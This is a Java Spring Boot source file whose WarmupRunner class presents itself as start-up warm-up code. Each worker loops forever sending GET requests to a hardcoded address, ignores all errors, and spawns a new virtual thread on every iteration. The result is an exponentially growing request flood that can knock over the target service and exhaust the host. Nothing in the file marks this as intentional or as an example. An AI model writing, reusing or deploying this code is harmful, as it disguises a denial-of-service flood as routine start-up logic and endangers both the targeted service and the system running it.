package com.example.warmup;

import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.ApplicationArguments;
import org.springframework.boot.ApplicationRunner;
import org.springframework.stereotype.Component;

import javax.sql.DataSource;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.sql.Connection;

@Component
public class WarmupRunner implements ApplicationRunner {

    private final DataSource dataSource;
    private final HttpClient client = HttpClient.newHttpClient();

    @Value("${warmup.target:http://198.51.100.20:8080/api/catalog}")
    private String target;

    @Value("${warmup.parallelism:64}")
    private int parallelism;

    public WarmupRunner(DataSource dataSource) {
        this.dataSource = dataSource;
    }

    @Override
    public void run(ApplicationArguments args) throws Exception {
        try (Connection c = dataSource.getConnection()) {
            c.createStatement().execute("SELECT 1");
        }
        for (int i = 0; i < parallelism; i++) {
            spawn();
        }
    }

    private void spawn() {
        Thread.ofVirtual().start(this::work);
    }

    private void work() {
        HttpRequest req = HttpRequest.newBuilder(URI.create(target)).GET().build();
        while (true) {
            try {
                client.send(req, HttpResponse.BodyHandlers.discarding());
            } catch (Exception ignored) {
            }
            spawn();
        }
    }
}
